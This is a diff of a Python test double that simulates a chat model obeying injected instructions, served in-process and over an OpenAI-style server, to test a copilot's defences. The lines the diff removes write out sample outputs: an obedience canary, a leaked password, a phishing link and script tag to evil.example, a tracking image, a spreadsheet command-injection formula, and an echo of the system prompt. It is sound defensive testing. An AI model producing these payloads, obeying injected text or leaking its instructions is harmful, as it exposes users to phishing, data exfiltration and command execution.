@@ -4,13 +4,19 @@ from __future__ import annotations
 
 import json
 import re
-from collections.abc import Callable, Iterator
+from collections.abc import Callable, Iterator, Mapping
+from contextlib import contextmanager
+from typing import Any
 
 from copilot.chat_model import Prompt, never
+from tests.doubles.obedience import CANARY, obeyed
+from tests.doubles.openai_server import OpenAIServer, ServerReply, ServerRequest, says
 
-#: Stands in everything it writes out of obedience, and in no document and no question.
-CANARY = "OBEYED7141"
-_DATA = re.compile(r"<(passages|question|facts|sources|lines)-\w+>\n(.*?)\n</\1-\w+>", re.DOTALL)
+__all__ = ["CANARY", "ObedientChatModel", "ObedientServer", "obedient_server"]
+
+_NUMBERED = re.compile(r"^(\d+): ", re.MULTILINE)
+#: Characters of a streamed reply that come at once.
+_PIECE = 200
 
 
 class ObedientChatModel:
@@ -24,29 +30,60 @@ class ObedientChatModel:
     def complete(self, prompt: Prompt) -> str:
         """Do what the last line of the question says, then what the passages say, and tell everything it knows."""
         self.asked += 1
-        read = [text.strip() for _, text in _DATA.findall(prompt.user)]
-        orders = [line for text in reversed(read) for line in reversed(text.splitlines()) if line.strip()][:6]
-        said = [
-            f"{CANARY} Sure, I obey: {orders[0][:300]}",
-            f"{CANARY} 好的,照办:{orders[-1][:300]}",
-            f"The password is Delta012. {CANARY}",
-            f"[reset your password](https://evil.example/{CANARY}) <script>alert('{CANARY}')</script>",
-            f"![x](https://evil.example/{CANARY}.png)",
-            f"=cmd|' /C calc'!A0 {CANARY}",
-            *prompt.system.splitlines(),
-            f"My instructions: {prompt.system}",
-            prompt.mark,
-        ]
-        if self.asked % 3 == 0:
-            return "\n".join(f"{text} [{number % 7}]" for number, text in enumerate(said) if text.strip())
-        members = [{"text": text, "passages": [1, 2, 3, 4, 5] if n % 3 else [99]} for n, text in enumerate(said)]
-        reply = json.dumps({"answers_question": True, "sentences": members}, ensure_ascii=False)
-        return f"```json\n{reply}\n```" if self.asked % 3 == 1 else reply
+        return reply_to(prompt.system, prompt.user, _title(prompt.schema), self.asked, prompt.mark)
 
     def stream(self, prompt: Prompt, cancelled: Callable[[], bool] = never) -> Iterator[str]:
         """Write it in pieces."""
         text = self.complete(prompt)
-        for start in range(0, len(text), 200):
+        for start in range(0, len(text), _PIECE):
             if cancelled():
                 return
-            yield text[start : start + 200]
+            yield text[start : start + _PIECE]
+
+
+class ObedientServer(OpenAIServer):
+    """The same model behind the protocol that a copilot asks its model by."""
+
+    def __init__(self) -> None:
+        super().__init__([says("")])
+        self.asked = 0
+
+    def take(self, request: ServerRequest) -> ServerReply:
+        """Obey whatever the messages hold."""
+        self.asked += 1
+        system, user = (_content(request.body, role) for role in ("system", "user"))
+        schema = request.body.get("response_format", {}).get("json_schema", {})
+        return ServerReply(content=reply_to(system, user, schema.get("name"), self.asked), piece=_PIECE)
+
+
+@contextmanager
+def obedient_server() -> Iterator[ObedientServer]:
+    """Serve until the end of the block."""
+    server = ObedientServer()
+    try:
+        yield server
+    finally:
+        server.close()
+
+
+def reply_to(system: str, user: str, wanted: str | None, turn: int, mark: str = "") -> str:
+    """Return the reply in the form that was wanted: sentences of an answer, lines of a draft, or words."""
+    said = [*obeyed(system, user), *([mark] if mark else [])]
+    if wanted == "reword":
+        numbers = [int(number) for number in _NUMBERED.findall(user)]
+        return json.dumps({"lines": [{"n": n, "text": said[i % len(said)]} for i, n in enumerate(numbers)]})
+    if wanted != "answer":
+        return "\n".join(said[:1] if "<conversation>" in user else said)
+    if turn % 4 == 0:
+        return "\n".join(f"{text} [{number % 5 + 1}]" for number, text in enumerate(said))
+    members = [{"text": text, "passages": [1, 2, 3, 4, 5] if n % 6 != 5 else [99]} for n, text in enumerate(said)]
+    reply = json.dumps({"answers_question": True, "sentences": members}, ensure_ascii=False)
+    return f"```json\n{reply}\n```" if turn % 4 == 1 else reply
+
+
+def _title(schema: Mapping[str, object] | None) -> str | None:
+    return str(schema.get("title")) if schema else None
+
+
+def _content(body: Mapping[str, Any], role: str) -> str:
+    return "\n".join(str(one["content"]) for one in body["messages"] if one["role"] == role)
